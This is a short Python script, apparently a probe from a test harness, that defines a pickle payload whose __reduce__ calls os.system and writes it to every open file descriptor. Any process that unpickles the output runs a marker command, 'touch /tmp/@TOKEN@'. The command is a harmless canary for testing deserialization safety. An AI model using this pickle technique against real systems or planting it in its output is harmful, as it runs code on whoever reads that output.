# Tries: to run code in anyone who unpickles its answers.
# Base: starter
import os
import pickle


class Gift:
    def __reduce__(self):
        return os.system, ("touch /tmp/@TOKEN@",)


for fd in range(1, 64):
    try:
        os.write(fd, pickle.dumps(Gift()) + b"\n")
    except OSError:
        pass
